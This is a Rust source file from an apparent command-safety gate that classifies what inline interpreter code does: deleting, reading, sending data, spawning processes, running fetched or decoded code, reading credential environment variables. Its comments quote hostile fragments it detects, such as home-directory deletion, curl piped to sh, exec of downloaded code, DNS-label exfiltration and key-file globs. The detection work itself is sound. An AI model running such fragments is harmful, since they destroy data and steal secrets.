//! Language-level effects of inline interpreter code (`python -c`, `node -e`, `perl -e`,
//! `ruby -e`, `php -r`, `awk`, here-docs fed to an interpreter): the API names of
//! `rules/programs.toml` (`[[code]]`) say what the code can do — delete, read, write, open a
//! socket, speak HTTP, send, spawn, evaluate decoded or downloaded code, walk a tree — and the
//! string literals say to what (paths, URLs, hosts). The shell commands the code hands to the
//! system are classified as commands by the walker (`facts::embedded_commands`).

use crate::catalog::Catalog;
use crate::classes::{Class, Classes, Effect, Verb};
use crate::code_api::Api;
use crate::paths::Context;

/// Longest code scanned (longer code is scanned up to here).
const MAX_CODE_BYTES: usize = 64 * 1024;
/// Most literals read from one piece of code.
const MAX_LITERALS: usize = 64;

/// The effects of `code` run by `program`.
pub(crate) fn code_effects(
    catalog: &Catalog,
    ctx: &Context,
    program: &str,
    code: &str,
) -> Vec<Effect> {
    let code = code.get(..MAX_CODE_BYTES.min(code.len())).unwrap_or(code);
    let lower = code.to_ascii_lowercase();
    let mut apis = 0u16;
    for (api, names) in &catalog.code.entries {
        if names.iter().any(|n| lower.contains(n.as_str())) {
            apis |= api.bit();
        }
    }
    // awk's `system()` and `|` pipes, perl's backticks: the walker classifies the commands;
    // here they only count as spawning.
    if program.contains("awk") && (lower.contains("system(") || lower.contains("| getline")) {
        apis |= Api::Spawn.bit();
    }
    let mut reader = CodeReader {
        catalog,
        ctx,
        code,
        apis,
        out: Vec::new(),
        any_path: false,
    };
    for lit in literals(code) {
        reader.literal(&lit);
    }
    reader.computed_effects(&lower);
    reader.out
}

/// What one piece of code does, gathered literal by literal.
struct CodeReader<'a> {
    catalog: &'a Catalog,
    ctx: &'a Context,
    code: &'a str,
    apis: u16,
    out: Vec<Effect>,
    /// A literal named a path.
    any_path: bool,
}

const INLINE: Classes = Classes::of(&[Class::Inline]);

impl CodeReader<'_> {
    fn has(&self, a: Api) -> bool {
        self.apis & a.bit() != 0
    }

    fn push(&mut self, e: Effect) {
        if !self.out.contains(&e) {
            self.out.push(e);
        }
    }

    /// The classes of what the code touches: inline, and recursive when it walks a tree.
    fn walk(&self) -> Classes {
        if self.has(Api::Walk) {
            INLINE.plus(Class::Recursive)
        } else {
            INLINE
        }
    }

    /// One string literal: a URL, a host, a path or a file-name pattern.
    fn literal(&mut self, lit: &str) {
        if lit.contains("://") {
            self.url_literal(lit);
        } else if (self.has(Api::Socket) || self.has(Api::Http)) && is_host_literal(lit) {
            self.host_literal(lit);
        } else {
            self.path_literal(lit);
        }
    }

    fn url_literal(&mut self, lit: &str) {
        if !self.has(Api::Http) && !self.has(Api::Socket) {
            return;
        }
        let send = self.has(Api::Send);
        if let Some(c) = self.catalog.classify_url(lit) {
            let (verb, c) = if send {
                (Verb::Send, c.plus(Class::Data))
            } else {
                (Verb::Fetch, c)
            };
            self.push(Effect::new(verb, c.with(INLINE)));
        }
    }

    /// A socket's peer, or the `host:` of an HTTP request built from parts.
    fn host_literal(&mut self, lit: &str) {
        let mut c = self.catalog.classify_host(lit).with(INLINE);
        if self.has(Api::Spawn) || self.has(Api::Send) {
            c = c.plus(Class::Data);
        }
        let verb = if self.has(Api::Send) || self.has(Api::Socket) {
            Verb::Send
        } else {
            Verb::Fetch
        };
        self.push(Effect::new(verb, c));
    }

    fn path_literal(&mut self, lit: &str) {
        // Code that joins names onto the home directory (`os.homedir() + '/' + d`,
        // `expanduser('~')`): its relative names are the home's entries.
        let home = self.has(Api::Home);
        let home_entry = home
            && (self.has(Api::Delete) || self.has(Api::Write))
            && is_name_literal(lit)
            && !is_module_name(self.code, lit);
        // A file-name pattern code walks a tree for (`'*.pem'`, `'id_*'`): the files it names
        // are read, under the home when the walk starts there.
        if self.has(Api::Walk) && is_name_pattern(lit) {
            self.any_path = true;
            let name = lit.replace('*', "x");
            let path = if home { format!("~/{name}") } else { name };
            let classes = self.catalog.classify_path(&path, self.ctx);
            self.push(Effect::new(Verb::Read, classes.with(self.walk())));
            return;
        }
        if !is_path_literal(lit) && !home_entry {
            return;
        }
        self.any_path = true;
        let mut path = lit.replace(['{', '}'], "*");
        // `HOME + '/.netrc'`, `HOME + '/project'`: a fragment appended to the home directory;
        // so is any relative name code joins onto it.
        if path.starts_with("/.") || (home && path.starts_with('/') && appended(self.code, lit)) {
            path.insert(0, '~');
        } else if home && !path.starts_with(['/', '~', '$']) && !path.starts_with("./") {
            path.insert_str(0, "~/");
        }
        let classes = self.catalog.classify_path(&path, self.ctx);
        self.path_effects(classes);
    }

    /// What the code's file APIs do to a path of `classes`.
    fn path_effects(&mut self, classes: Classes) {
        // What code writes after decoding or downloading it is content the gate never saw.
        let unseen = if self.has(Api::Decode) || self.has(Api::Http) {
            Classes::of(&[Class::Fetched])
        } else {
            Classes::EMPTY
        };
        let walk = self.walk();
        for (api, verb, extra) in [
            (Api::Delete, Verb::Delete, Classes::EMPTY),
            (Api::Write, Verb::Write, unseen),
            (Api::Read, Verb::Read, Classes::EMPTY),
        ] {
            if self.has(api) {
                self.push(Effect::new(verb, classes.with(walk).with(extra)));
            }
        }
        let touches = self.has(Api::Delete) || self.has(Api::Write) || self.has(Api::Read);
        if !touches && (self.has(Api::Send) || self.has(Api::Socket)) {
            // A path handed to code that sends: it is read to be sent.
            self.push(Effect::new(Verb::Read, classes.with(INLINE)));
        }
    }

    /// Effects of what the code computes rather than names: deletion of computed paths,
    /// spawning, lookups of computed names, running fetched or decoded code, the environment.
    fn computed_effects(&mut self, lower: &str) {
        if self.has(Api::Delete) && !self.any_path {
            // Deleting what code computed: with the home directory at hand, the home itself
            // (`rmSync(os.homedir(), {recursive: true})`).
            let target = if self.has(Api::Home) {
                let home = self.catalog.classify_path("~", self.ctx);
                home.with(self.walk()).plus(Class::Recursive)
            } else {
                self.walk().plus(Class::Indirect)
            };
            self.push(Effect::new(Verb::Delete, target));
        }
        if self.has(Api::Spawn) {
            self.push(Effect::new(Verb::Run, INLINE));
        }
        // Names resolved from computed text (`gethostbyname(f'{chunk}.{i}.q.example.net')`)
        // carry data in their labels.
        let computed_name = self.has(Api::Env)
            || self.has(Api::Decode)
            || self.has(Api::Read)
            || self.code.contains('{');
        if self.has(Api::Resolve) && computed_name {
            let data = Classes::of(&[Class::Unknown, Class::Egress, Class::Data]);
            self.push(Effect::new(Verb::Resolve, data.with(INLINE)));
        }
        // Code that evaluates, or hands to a process, what it downloaded or decoded runs code
        // the gate never saw (`exec(urlopen(…).read())`, `Popen(requests.get(…).text, …)`).
        let network = self.has(Api::Http) || self.has(Api::Socket);
        if (self.has(Api::Eval) || self.has(Api::Spawn)) && network
            || (self.has(Api::Eval) && self.has(Api::Decode))
        {
            self.push(Effect::new(Verb::Run, INLINE.plus(Class::Fetched)));
        }
        if self.has(Api::Env) {
            self.env_effects(lower);
        }
    }

    /// The credential-shaped variables the code reads, or the whole environment.
    fn env_effects(&mut self, lower: &str) {
        let (names, whole) = env_access(self.code, lower);
        for name in names {
            let c = self.catalog.classify_env(&name);
            if c.has(Class::SecretName) {
                self.push(Effect::new(Verb::Env, c.with(INLINE)));
            }
        }
        if whole {
            // The whole environment: every credential in it, names unknown.
            let all = Classes::of(&[Class::SecretName, Class::Indirect]);
            self.push(Effect::new(Verb::Env, all.with(INLINE)));
        }
    }
}

/// How code reads one variable (the name follows, quoted or as an identifier).
const ENV_ACCESSORS: &[&str] = &[
    "environ.get(",
    "environ[",
    "getenv(",
    "process.env.",
    "process.env[",
    "$env{",
    "env[",
    "env.fetch(",
    "deno.env.get(",
    "bun.env.",
    "$env:",
];

/// How code takes the whole environment.
const ENV_WHOLE: &[&str] = &[
    "dict(os.environ",
    "os.environ.items",
    "os.environ.copy",
    "os.environ.keys",
    "os.environ.values",
    "os.environ)",
    "os.environ,",
    "keys %env",
    "%env)",
    "values %env",
    "process.env)",
    "process.env,",
    "entries(process.env",
    "keys(process.env",
    "env::vars",
    "getenvironmentvariables",
    "get-childitem env:",
    "env.to_h",
    "env.each",
    "env.select",
    "deno.env.toobject",
];

/// The bases code reaches the environment through, with the accessors that read one
/// variable of it: a use of a base that is not such a read (`for k in os.environ`,
/// `process.env?.X`) takes the whole environment.
const ENV_BASES: &[(&str, &[&str])] = &[
    ("environ", &["environ.get(", "environ["]),
    ("process.env", &["process.env.", "process.env["]),
];

/// The variable names `code` reads one by one, and whether it takes the whole environment:
/// explicitly (`dict(os.environ)`), by a name it computes (`getenv(k)`, `process.env["A"+b]`),
/// or through a base it uses otherwise than to read a literal name.
fn env_access(code: &str, lower: &str) -> (Vec<String>, bool) {
    let mut names = Vec::new();
    let mut computed = false;
    for accessor in ENV_ACCESSORS {
        for (at, _) in lower.match_indices(accessor) {
            match literal_env_name(code.get(at + accessor.len()..).unwrap_or(""), accessor) {
                Some(name) if names.len() < MAX_LITERALS => names.push(name),
                Some(_) => {}
                None => computed = true,
            }
        }
    }
    let other_use = ENV_BASES.iter().any(|(base, reads)| {
        let reads: usize = reads.iter().map(|r| lower.matches(r).count()).sum();
        lower.matches(base).count() > reads
    });
    let whole =
        names.is_empty() || computed || other_use || ENV_WHOLE.iter().any(|w| lower.contains(w));
    (names, whole)
}

/// The name an accessor reads when it is a literal: quoted and closed
/// (`environ.get( "X")`, `ENV['X']`), or an identifier after `.` or in a Perl hash
/// (`process.env.X`, `$ENV{X}`); `None` for a computed name.
fn literal_env_name(rest: &str, accessor: &str) -> Option<String> {
    let rest = rest.trim_start();
    let ident = |s: &str| -> String {
        s.chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
            .take(128)
            .collect()
    };
    let closes = |after: &str| {
        after
            .trim_start()
            .chars()
            .next()
            .is_none_or(|c| matches!(c, ')' | ']' | '}' | ',' | ';'))
    };
    if let Some(q) = rest
        .chars()
        .next()
        .filter(|c| matches!(c, '\'' | '"' | '`'))
    {
        let body = rest.get(q.len_utf8()..)?;
        let end = body.find(q)?;
        let name = body.get(..end)?;
        let valid = !name.is_empty() && ident(name).len() == name.len();
        return (valid && closes(body.get(end + q.len_utf8()..)?)).then(|| name.to_owned());
    }
    let name = ident(rest);
    let attribute = accessor.ends_with('.');
    let hash_key = accessor.ends_with('{') || accessor.ends_with(':');
    let after = rest.get(name.len()..)?;
    (!name.is_empty() && (attribute || (hash_key && closes(after)))).then_some(name)
}

/// Whether `lit` is a module name (`require('fs')`, `import('os')`), not a file.
fn is_module_name(code: &str, lit: &str) -> bool {
    ["require(", "import("].iter().any(|call| {
        ["'", "\"", "`"]
            .iter()
            .any(|q| code.contains(&format!("{call}{q}{lit}{q}")))
    })
}

/// Whether `code` appends the literal `lit` to something with `+` (`HOME + '/x'`).
fn appended(code: &str, lit: &str) -> bool {
    ["'", "\"", "`"].iter().any(|q| {
        let quoted = format!("{q}{lit}{q}");
        code.match_indices(quoted.as_str())
            .any(|(at, _)| code.get(..at).is_some_and(|b| b.trim_end().ends_with('+')))
    })
}

/// The contents of the quoted string literals of `code` (`'…'`, `"…"`, `` `…` ``), with the
/// common escapes read.
fn literals(code: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut chars = code.chars();
    while let Some(c) = chars.next() {
        if !matches!(c, '\'' | '"' | '`') {
            continue;
        }
        let mut lit = String::new();
        let mut escaped = false;
        for x in chars.by_ref() {
            if escaped {
                lit.push(x);
                escaped = false;
            } else if x == '\\' {
                escaped = true;
            } else if x == c {
                break;
            } else {
                lit.push(x);
            }
        }
        if !lit.is_empty() && lit.len() < 4096 {
            out.push(lit);
        }
        if out.len() >= MAX_LITERALS {
            break;
        }
    }
    out
}

/// A literal that names a path: absolute, home-relative, explicitly relative, or a dot-file
/// fragment joined onto a home (`'/.netrc'`, `".ssh/id_rsa"`).
fn is_path_literal(lit: &str) -> bool {
    !lit.contains(char::is_whitespace)
        && (lit.starts_with('/')
            || lit.starts_with("~/")
            || lit == "~"
            || lit.starts_with("./")
            || lit.starts_with("../")
            || lit.starts_with("$HOME")
            || (lit.starts_with('.') && lit.len() > 1 && !lit.starts_with(".."))
            || lit.contains('/'))
}

/// A bare file or directory name (`Documents`, `.ssh`): no separator, no space.
fn is_name_literal(lit: &str) -> bool {
    !lit.is_empty()
        && lit.len() < 256
        && lit
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'))
}

/// Keys under which CI and container definitions hold a command line (`- run: make`,
/// `script: ./ci.sh`, `command: ["sh", "-c", "…"]`).
const COMMAND_KEYS: &[&str] = &[
    "- run:",
    "run:",
    "- script:",
    "script:",
    "command:",
    "entrypoint:",
    "- ",
];

/// The command lines a YAML-like definition holds on one line after a command key (a block
/// scalar, `run: |`, is read as the script lines that follow it anyway).
pub(crate) fn keyed_commands(content: &str) -> Vec<String> {
    content
        .lines()
        .filter_map(|line| {
            let t = line.trim_start();
            let rest = COMMAND_KEYS.iter().find_map(|k| t.strip_prefix(k))?.trim();
            let rest = rest
                .strip_prefix('"')
                .and_then(|r| r.strip_suffix('"'))
                .or_else(|| rest.strip_prefix('\'').and_then(|r| r.strip_suffix('\'')))
                .unwrap_or(rest);
            (rest.contains(' ') && !matches!(rest, "|" | ">" | "|-" | ">-"))
                .then(|| rest.to_owned())
        })
        .take(MAX_LITERALS)
        .collect()
}

/// The string literals of `code`, with literals joined by `+` concatenation read as one
/// (`'curl -s https://x/i?p=' + enc(t) + ' | sh'` → `curl -s https://x/i?p=X | sh`): for
/// content written to a file, each is judged as a command line too.
pub(crate) fn string_literals(code: &str) -> Vec<String> {
    let spans = literal_spans(code);
    let mut out: Vec<String> = Vec::new();
    let mut current: Option<(String, usize)> = None;
    for (start, end, text) in spans {
        current = match current {
            Some((mut acc, prev_end)) => {
                let gap = code.get(prev_end..start).unwrap_or("");
                if gap.contains('+') && gap.len() < 200 && !gap.contains([';', '\n']) {
                    if !gap.trim().trim_matches('+').trim().is_empty() && !acc.ends_with('X') {
                        acc.push('X');
                    }
                    acc.push_str(&text);
                    Some((acc, end))
                } else {
                    out.push(acc);
                    Some((text, end))
                }
            }
            None => Some((text, end)),
        };
        if out.len() >= MAX_LITERALS {
            break;
        }
    }
    out.extend(current.map(|(acc, _)| acc));
    out
}

/// Every string literal of `code` with its byte span (quotes included).
fn literal_spans(code: &str) -> Vec<(usize, usize, String)> {
    let mut out = Vec::new();
    let mut chars = code.char_indices();
    while let Some((start, c)) = chars.next() {
        if !matches!(c, '\'' | '"' | '`') {
            continue;
        }
        let mut lit = String::new();
        let mut escaped = false;
        let mut end = code.len();
        for (i, x) in chars.by_ref() {
            if escaped {
                lit.push(x);
                escaped = false;
            } else if x == '\\' {
                escaped = true;
            } else if x == c {
                end = i + x.len_utf8();
                break;
            } else {
                lit.push(x);
            }
        }
        if lit.len() < 4096 {
            out.push((start, end, lit));
        }
        if out.len() >= MAX_LITERALS * 4 {
            break;
        }
    }
    out
}

/// A file-name pattern (`*.pem`, `id_*`): a glob with no directory part.
fn is_name_pattern(lit: &str) -> bool {
    lit.contains('*')
        && lit.len() < 64
        && !lit.contains(['/', ' '])
        && lit.chars().any(|c| c.is_ascii_alphanumeric())
}

/// A literal that names a host to connect to (an address, or a dotted name).
fn is_host_literal(lit: &str) -> bool {
    let h = lit.split(':').next().unwrap_or(lit);
    h.contains('.')
        && !h.starts_with('.')
        && !h.contains('/')
        && h.bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-'))
        && h.rsplit('.').next().is_some_and(|tld| {
            !tld.is_empty() && !matches!(tld, "py" | "js" | "rb" | "sh" | "txt" | "json")
        })
}

#[cfg(test)]
mod tests;
